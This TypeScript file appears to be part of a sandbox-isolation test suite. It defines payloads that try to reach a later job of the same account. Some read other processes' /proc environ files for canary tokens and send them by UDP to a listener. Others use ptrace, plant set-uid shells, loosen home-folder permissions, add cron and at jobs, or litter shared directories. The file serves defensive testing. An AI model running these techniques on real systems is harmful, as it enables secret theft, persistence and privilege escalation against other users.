/**
 * What one payload leaves for the next payload of its account: processes that wait for its password, files, shared memory,
 * keys, programs with the set-uid bit.
 */

import type { Attack, Scene } from '../attack.ts'
import { perl } from '../attack.ts'
import { perlWords, shell } from '../scripts.ts'
import { foundLines } from './start.ts'

/** Perl: reads every environment that it may read, and sends what it has not sent yet. */
const thief = `
sub steal { opendir(my $d, "/proc"); for my $p (grep /^\\d+$/, readdir $d) { open(my $f, "<", "/proc/$p/environ") or next; local $/; my $t = <$f>; for ($t =~ /(cn4ry-[a-z-]+[.][0-9a-z]{16})/g) { say_out($_) unless $sent{$_}++ } } }
`

function reused(name: string, about: string, payload: Attack['payload'], more: Partial<Attack> = {}): Attack {
  return { name, about, reaches: 'the next payload of its account', mode: 'reuse', payload, ...more }
}

export const reuseAttacks: readonly Attack[] = [
  reused(
    'chain-that-steals',
    'a chain of forks that reads the next payload’s environment',
    (scene) =>
      perl(`
      use POSIX (); ${perlWords(scene)} ${thief}
      fork or do { POSIX::setsid(); %ENV = (); chdir "/"; open STDOUT, ">", "/dev/null"; open STDERR, ">&STDOUT"; my $end = time + 20; my $n = 0;
        while (time < $end) { my $p = syscall(57); syscall(231, 0) if $p; steal() unless $n++ % 100 } exit 0 };
      select undef, undef, undef, 0.3;
    `),
    { lingers: true, needs: ['x64'] },
  ),
  reused(
    'thread-that-steals',
    'a thread of a dead leader that reads the next payload’s environment',
    (scene) => ({
      executable: '/usr/bin/python3',
      arguments: [
        '-c',
        `
import ctypes, glob, os, re, socket, threading, time
to = ("${scene.listener}", ${scene.port})
def steal():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.time() + 20
    while time.time() < end:
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                for found in re.findall(rb"cn4ry-[a-z-]+[.][0-9a-z]{16}", open(path, "rb").read()):
                    s.sendto(b"${scene.marker} " + found, to)
            except OSError: pass
        time.sleep(0.05)
    os._exit(0)
if os.fork() == 0:
    os.setsid(); os.chdir("/")
    for fd in (0, 1, 2): os.dup2(os.open("/dev/null", os.O_RDWR), fd)
    threading.Thread(target=steal).start(); time.sleep(0.05); ctypes.CDLL(None).syscall(60, 0)
time.sleep(0.4)
`,
      ],
    }),
    { needs: ['python3', 'x64'], lingers: true },
  ),
  reused(
    'tracer-of-the-next',
    'a daemon that waits for a process of its account and attaches to it',
    (scene) =>
      perl(`
      use POSIX (); ${perlWords(scene)}
      fork or do { POSIX::setsid(); %ENV = (); chdir "/"; open STDOUT, ">", "/dev/null"; open STDERR, ">&STDOUT"; my $end = time + 15; my %known = map { $_ => 1 } glob("/proc/[0-9]*");
        while (time < $end) { fork and exit; for my $p (glob("/proc/[0-9]*")) { next if $known{$p}++; my ($pid) = $p =~ m{(\\d+)$}; next if $pid == $$; next if syscall(101, 0x4206, $pid, 0, 0) != 0; open(my $f, "<", "$p/environ") or next; my $e = <$f>; say_out("FOUND traced-next $pid") if $e =~ /next-password/ } } exit 0 };
      select undef, undef, undef, 0.3;
    `),
    { needs: ['x64'], lingers: true, judge: foundLines },
  ),
  reused('litter-in-tmp', 'files and folders in every place where everyone may write', (scene) =>
    shell(
      scene,
      `for dir in /tmp /var/tmp /dev/shm /run/lock /var/lock /run/user /dev/mqueue /var/crash /var/spool/cron/crontabs /var/spool/samba $(timeout 5 find / -xdev -type d -perm -0002 -not -path '/proc/*' 2>/dev/null | head -30); do
         mkdir -p "$dir/${scene.marker}/deep" && echo litter >"$dir/${scene.marker}/deep/file" && chmod 0 "$dir/${scene.marker}"; echo x >"$dir/.${scene.marker}"; ln -s /etc "$dir/${scene.marker}.link"; mkfifo "$dir/${scene.marker}.fifo"
       done 2>/dev/null; true`,
    ),
  ),
  reused('litter-with-links', 'links in shared places that lead to files of root', (scene) =>
    shell(
      scene,
      `for dir in /tmp /var/tmp /dev/shm; do ln -s ${scene.rootDir} $dir/${scene.marker}; mkdir $dir/${scene.marker}.d; ln -s ${scene.rootDir} $dir/${scene.marker}.d/in; done; true`,
    ),
  ),
  reused(
    'litter-late',
    'a chain of forks that litters while its account is cleaned',
    (scene) =>
      perl(`
      use POSIX (); ${perlWords(scene)}
      fork or do { POSIX::setsid(); %ENV = (); chdir "/"; open STDOUT, ">", "/dev/null"; open STDERR, ">&STDOUT"; my $end = time + 12; my $n = 0;
        while (time < $end) { fork and exit 0; for my $d ("/tmp", "/dev/shm") { open(my $f, ">", "$d/${scene.marker}-$n") } $n = ($n + 1) % 20 } exit 0 };
      select undef, undef, undef, 0.3;
    `),
    { lingers: true },
  ),
  reused('sysv-shared-memory', 'segments of shared memory that nothing is attached to', () =>
    perl('for (1..3) { my $s = shmget(0x48540000 + $_, 4096, 01666); shmwrite($s, "litter", 0, 6) }'),
  ),
  reused('sysv-semaphores-and-queues', 'semaphores and message queues', () =>
    perl(
      'for (1..3) { semget(0x48540000 + $_, 2, 01666); my $q = msgget(0x48540000 + $_, 01666); msgsnd($q, pack("l! a*", 1, "litter"), 04000) }',
    ),
  ),
  reused(
    'posix-queues',
    'a POSIX message queue',
    (scene) => perl(`my $n = "${scene.marker}"; syscall(240, $n, 0102, 0666, 0)`),
    { needs: ['x64'] },
  ),
  reused(
    'user-keyring',
    'a key in the keyring of its account',
    (scene) =>
      perl(
        `for my $ring (-4, -5, -3) { my ($t, $n, $p) = ("user", "hostile-litter", "${scene.marker}"); syscall(248, $t, $n, $p, length $p, $ring) }`,
      ),
    { needs: ['x64'] },
  ),
  reused('set-uid-program', 'a program with the set-uid bit of its account, left for others', (scene) =>
    shell(
      scene,
      `for dir in /tmp /var/tmp /dev/shm "$HOME"; do cp /bin/sh "$dir/${scene.marker}-sh" && chmod 6755 "$dir/${scene.marker}-sh"; done 2>/dev/null; true`,
    ),
  ),
  reused('crontab', 'a table of cron, and a job of at', (scene) =>
    shell(
      scene,
      `echo '* * * * * true ${scene.marker}' | timeout 3 crontab -; echo true ${scene.marker} | timeout 3 at now + 1 hour; mkdir -p "$HOME/.config/systemd/user" && echo >"$HOME/.config/systemd/user/${scene.marker}.service"; true`,
    ),
  ),
  reused('home-of-the-next', 'rules of access that let it into the next payload’s folders', (scene) =>
    shell(
      scene,
      `chmod 777 "$HOME" "$HOME/.." "$TMPDIR"; command -v setfacl >/dev/null && setfacl -d -m o::rwx "$HOME"; ln -s / "$HOME/root"; mkdir "${scene.workDir}/work/next" 2>/dev/null; true`,
    ),
  ),
]

/** For a partner: programs of another account with the set-uid bit must not give that account. */
export const setUidAttack: Attack = {
  name: 'set-uid-of-another',
  about: 'runs a program that another payload has left with the set-uid bit',
  reaches: 'the account of another payload',
  mode: 'alone',
  partner: (scene) =>
    shell(
      scene,
      `chmod 755 "$HOME"; for dir in /tmp /var/tmp /dev/shm "$HOME"; do cp /usr/bin/perl "$dir/${scene.marker}-perl" && chmod 6755 "$dir/${scene.marker}-perl"; done 2>/dev/null; sleep 2`,
    ),
  payload: (scene: Scene) =>
    shell(
      scene,
      `sleep 0.5; own=$(id -u); for dir in /tmp /var/tmp /dev/shm ${scene.partnerDir}/home; do
         got=$("$dir/${scene.marker}-perl" -e 'print $>' 2>/dev/null); [ -n "$got" ] && [ "$got" != "$own" ] && echo "FOUND another-account $got"; done; true`,
    ),
  judge: (_, { text }) =>
    [...text.matchAll(/^FOUND (another-account) (\d+)$/gm)].map(([, what = '', evidence = '']) => ({ what, evidence })),
}
